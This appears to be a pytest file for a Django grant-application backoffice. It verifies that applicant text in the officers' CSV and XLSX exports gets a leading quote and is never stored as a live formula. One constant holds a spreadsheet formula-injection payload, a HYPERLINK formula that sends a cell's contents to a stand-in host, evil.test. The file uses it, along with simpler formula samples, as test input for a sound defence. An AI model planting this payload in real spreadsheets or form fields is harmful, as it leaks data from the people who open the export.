"""Applicant text never becomes a live formula in the officers' CSV and XLSX exports."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from pepiniere.accounts.models import Role
from pepiniere.applications import services
from pepiniere.lib.testing.factories import make_call, make_draft, make_organisation, make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"x")'


@pytest.fixture
def call():
    return make_call(code="ecocollab", title="Économie collaborative")


@pytest.fixture
def officer(call):
    return make_user("agent@example.test", role=Role.OFFICER, funder=call.funder)


def _submitted(call, *, title, organisation_name, innovation):
    applicant = make_user()
    organisation = make_organisation(member=applicant, name=organisation_name)
    application = make_draft(call=call, applicant=applicant, organisation=organisation)
    services.save_draft(
        application=application,
        actor=applicant,
        answers={
            "_core": {
                "title": title,
                "summary": "Résumé",
                "requested_amount": "40000",
                "project_budget": "100000",
            },
            "innovation": innovation,
        },
    )
    services.submit_application(application=application, actor=applicant)
    return application


def test_csv_export_prefixes_formula_looking_text_with_a_quote(client, call, officer):
    _submitted(call, title=HYPERLINK, organisation_name="@SUM(1+1)", innovation="+33 6 12 34 56 78")
    client.force_login(officer)
    response = client.get(reverse("backoffice:export"), {"call": call.slug, "format": "csv"})
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    record = dict(zip(header, row, strict=True))
    assert record["Titre du projet"] == "'" + HYPERLINK
    assert record["Structure"] == "'@SUM(1+1)"
    assert record["Innovation"] == "'+33 6 12 34 56 78"
    assert record["Montant demandé"] == "40000,00"  # a number, with the French decimal comma


def test_xlsx_export_writes_text_as_strings_never_as_formulas(client, call, officer):
    _submitted(call, title="=1+1", organisation_name="-2+3", innovation=HYPERLINK)
    client.force_login(officer)
    response = client.get(reverse("backoffice:export"), {"call": call.slug, "format": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    header = [c.value for c in sheet[1]]
    row = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
    assert row["Titre du projet"].value == "'=1+1"
    assert row["Titre du projet"].data_type == "s"
    assert row["Structure"].value == "'-2+3"
    assert row["Innovation"].value == "'" + HYPERLINK
    assert row["Montant demandé"].value == 40000
